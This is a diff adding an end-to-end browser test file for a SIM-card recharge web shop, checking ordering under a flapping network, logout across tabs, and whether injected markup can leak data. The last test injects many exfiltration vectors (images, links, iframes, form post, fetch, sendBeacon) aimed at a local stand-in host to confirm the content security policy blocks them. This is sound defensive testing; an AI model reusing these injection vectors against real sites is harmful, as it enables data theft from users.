@@ -1,0 +1,98 @@
+/** What a phone does between taps: it loses the network and finds it, and goes back to a page that is of nobody any more. And what markup could do that got in. */
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Page } from '@playwright/test'
+import { expect, login, open, test, url } from './shop.ts'
+
+const session = (page: Page) => page.evaluate(() => JSON.parse(localStorage.getItem('menmian.session')!) as { simNo: string; simToken: string })
+async function orders(page: Page): Promise<number> {
+  const { simNo, simToken } = await session(page)
+  const answer = await fetch(`${url()}/api/iot/simBalanceList?pageSize=100`, { headers: { 'sim-no': simNo, 'sim-token': simToken } })
+  return ((await answer.json()) as { data: { list: unknown[] } }).data.list.length
+}
+
+test('the network comes and goes while somebody orders: one order a tap, and the page is there again at once', async ({ page, context, noise }) => {
+  noise.ignore(/Failed to load resource|net::ERR/)
+  await login(page, '1440000000003')
+  await open(page, '/pages/iot/index/balance/index')
+  await page
+    .getByRole('radio', { name: /30\.00/ })
+    .first()
+    .click()
+  const button = page.getByRole('button', { name: /充值|支付|下一步/ }).last()
+  await expect(button).toBeEnabled()
+  const before = await orders(page)
+  let reports = 0
+  page.on('request', (request) => request.url().endsWith('/api/error/report') && reports++)
+  for (let flip = 0; flip < 20; flip++) {
+    await context.setOffline(flip % 2 === 0)
+    if (flip < 19) await page.waitForTimeout(50)
+    if (flip % 4 === 0) {
+      await button.click()
+      await expect(button, 'a tap without a network leaves the button usable').toBeEnabled()
+    }
+  }
+  await context.setOffline(false)
+  await expect(page.getByRole('radio', { name: /30\.00/ }).first(), 'what was read stays readable').toBeVisible()
+  await button.click()
+  await expect(page).toHaveURL(/\/pay\/mock\//)
+  expect((await orders(page)) - before, 'the same tap, however often it was lost').toBe(1)
+  expect(reports).toBeLessThanOrEqual(10)
+})
+
+test('back to a page of a card after logging out elsewhere: nothing of the card is left on it', async ({ page, context }) => {
+  await login(page, '1440000000001')
+  await expect(page.getByText('1440 **** 0001').first()).toBeVisible()
+  await page.goto('about:blank')
+  const other = await context.newPage()
+  await open(other, '/')
+  await other.evaluate(() => {
+    const kept = JSON.parse(localStorage.getItem('menmian.session')!) as object
+    localStorage.setItem('menmian.session', JSON.stringify({ ...kept, simNo: '', simToken: '', simPromoCode: '' }))
+  })
+  await page.goBack()
+  await expect(page).toHaveURL(/iot\/login/)
+  await expect(page.getByText('1440 **** 0001')).toHaveCount(0)
+})
+
+test('markup that got into the page sends nothing to a foreign host', async ({ page, noise }) => {
+  noise.ignore(/CSP|Trusted|Content Security Policy|Refused|violates|Failed to load|preload/i)
+  const heard: string[] = []
+  const foreign = createServer((request, response) => {
+    heard.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
+  const host = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
+  await open(page, '/')
+  await expect(page.getByRole('feed').getByRole('button').first()).toBeVisible()
+  await page.evaluate((away) => {
+    const put = (tag: string, given: Record<string, string>, into: Element = document.body) => {
+      const element = document.createElement(tag)
+      for (const [name, value] of Object.entries(given))
+        try {
+          element.setAttribute(name, value)
+        } catch {
+          // Trusted Types refuse what would load a document
+        }
+      return into.appendChild(element)
+    }
+    put('img', { src: `${away}/img`, srcset: `${away}/srcset 2x` })
+    for (const rel of ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'manifest'])
+      put('link', { rel, href: `${away}/${rel}`, as: 'image' }, document.head)
+    for (const tag of ['iframe', 'embed', 'audio', 'video', 'source', 'track', 'input'])
+      put(tag, { src: `${away}/${tag}`, type: tag === 'input' ? 'image' : '' })
+    put('object', { data: `${away}/object` })
+    put('base', { href: `${away}/` }, document.head)
+    put('div', { style: `background: url(${away}/style)` })
+    const form = put('form', { action: `${away}/form`, method: 'post' }) as HTMLFormElement
+    put('input', { name: 'token', value: 'secret' }, form)
+    form.submit()
+    void fetch(`${away}/fetch`, { mode: 'no-cors' }).catch(() => undefined)
+    navigator.sendBeacon(`${away}/beacon`, 'secret')
+  }, host)
+  await page.waitForTimeout(1500)
+  foreign.close()
+  expect(heard).toEqual([])
+  await expect(page).toHaveURL(/#\//)
+})
